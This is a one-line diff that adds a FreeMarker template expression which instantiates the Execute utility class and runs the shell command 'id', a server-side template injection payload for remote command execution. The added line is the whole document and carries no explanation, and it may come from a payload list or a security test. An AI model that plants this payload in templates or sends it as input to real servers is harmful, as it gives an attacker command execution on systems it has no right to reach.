@@ -1,0 +1,1 @@
+${["id"]?map(c -> "freemarker.template.utility.Execute"?new()(c))?first}
